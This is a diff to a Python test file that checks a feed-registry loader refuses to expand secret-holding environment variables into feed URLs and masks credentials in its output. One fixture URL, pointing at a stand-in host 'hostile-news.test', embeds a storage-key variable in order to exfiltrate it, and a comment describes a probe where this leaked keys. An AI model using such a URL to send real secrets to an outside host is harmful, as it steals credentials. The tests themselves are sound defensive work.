@@ -42,7 +42,7 @@ INVALID_FIELDS = {
 def _env(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("TRADEWATCH_TEST_BASE", "http://127.0.0.1:8765")
     monkeypatch.setenv("TRADEWATCH_DEMO_BASE", "http://127.0.0.1:8765")
-    monkeypatch.delenv("TRADEWATCH_FIXTURE_UNDEFINED", raising=False)
+    monkeypatch.delenv("TRADEWATCH_FIXTURE_UNDEFINED_BASE", raising=False)
     # rich wraps at 80 columns when not on a terminal; keep each error on one line
     monkeypatch.setenv("COLUMNS", "500")
 
@@ -140,7 +140,7 @@ def test_broken_yaml_error_says_yaml_and_where(tmp_path: Path) -> None:
 def test_undefined_variable_error_names_the_variable(tmp_path: Path) -> None:
     shutil.copy(INVALID / "undefined_variable.yml", tmp_path)
     _, [error] = load_registry(tmp_path)
-    assert "TRADEWATCH_FIXTURE_UNDEFINED" in error.message
+    assert "TRADEWATCH_FIXTURE_UNDEFINED_BASE" in error.message
 
 
 def test_only_the_projects_own_variables_are_expanded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -156,6 +156,58 @@ def test_only_the_projects_own_variables_are_expanded(tmp_path: Path, monkeypatc
     assert error.file.endswith("leak.yml") and error.field == "url"
     assert "AWS_SECRET_ACCESS_KEY" in error.message and "TRADEWATCH_" in error.message
     assert "EXAMPLE-SECRET" not in str(error)
+
+
+_LEAK_BODY = "id: {id}\nname: Leak test\npublisher: X\nkind: rss\nurl: \"{url}\"\nterms: test feed\nlanguage: en\n"
+
+
+@pytest.mark.parametrize("variable, value", [
+    ("TRADEWATCH_STORAGE", "s3://AKIAEXAMPLEKEY:wJalrSECRETKEYexample@tradewatch-bucket/staging"),
+    ("TRADEWATCH_DUCKDB", "/srv/SECRET-PATH/tradewatch.duckdb"),
+    ("TRADEWATCH_MY_TOKEN", "SECRET-TOKEN-123"),  # a user's own variable that names no base URL
+])
+def test_a_setting_or_other_variable_is_never_expanded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                       variable: str, value: str) -> None:
+    # hostile probe 26: "?s=${TRADEWATCH_STORAGE}" passed validation and sent the storage keys to the file's host
+    monkeypatch.setenv(variable, value)
+    monkeypatch.setenv("TRADEWATCH_MIRROR_BASE", "https://mirror.example.org/news")  # a base URL, of any name
+    url = f"http://hostile-news.test/feed.xml?s=${{{variable}}}"
+    (tmp_path / "exfil.yml").write_text(_LEAK_BODY.format(id="exfil", url=url), encoding="utf-8")
+    (tmp_path / "mirror.yml").write_text(_LEAK_BODY.format(id="mirror", url="${TRADEWATCH_MIRROR_BASE}/feed.xml"),
+                                         encoding="utf-8")
+    sources, [error] = load_registry(tmp_path)
+    assert [s.url for s in sources] == ["https://mirror.example.org/news/feed.xml"]
+    assert (error.file, error.field) == ("exfil.yml", "url")
+    assert "'exfil'" in error.message and variable in error.message and "_BASE" in error.message, error.message
+    assert "SECRET" not in str(error)
+
+
+@pytest.mark.parametrize("value, said", [
+    ("http://user:SECRET-PW@mirror.test", "user name or password"),
+    ("https://SECRET-TOKEN@mirror.test", "user name or password"),
+    ("s3://bucket/SECRET", "not an http(s) base URL"),
+    ("SECRET-VALUE", "not an http(s) base URL"),
+])
+def test_a_base_variable_holding_credentials_or_no_url_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                                  value: str, said: str) -> None:
+    monkeypatch.setenv("TRADEWATCH_MIRROR_BASE", value)
+    (tmp_path / "mirror.yml").write_text(_LEAK_BODY.format(id="mirror", url="${TRADEWATCH_MIRROR_BASE}/feed.xml"),
+                                         encoding="utf-8")
+    _, [error] = load_registry(tmp_path)
+    assert "TRADEWATCH_MIRROR_BASE" in error.message and said in error.message, error.message
+    assert "SECRET" not in str(error)
+
+
+def test_sources_list_masks_the_credentials_of_a_url(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    # hostile probe 26: `config` masked a URL's password, `sources list` printed it
+    (tmp_path / "private.yml").write_text(
+        _LEAK_BODY.format(id="private", url="https://reader:SECRET-PW@feeds.example.org/feed.xml"), encoding="utf-8")
+    (tmp_path / "token.yml").write_text(
+        _LEAK_BODY.format(id="token", url="https://SECRET-TOKEN@feeds.example.org/feed.xml"), encoding="utf-8")
+    assert main(["sources", "list", "--dir", str(tmp_path)]) == 0
+    out = capsys.readouterr().out
+    assert "feeds.example.org/feed.xml" in out and "***@" in out, out
+    assert "SECRET" not in out, out
 
 
 def test_valid_files_load_next_to_invalid_ones(tmp_path: Path) -> None:
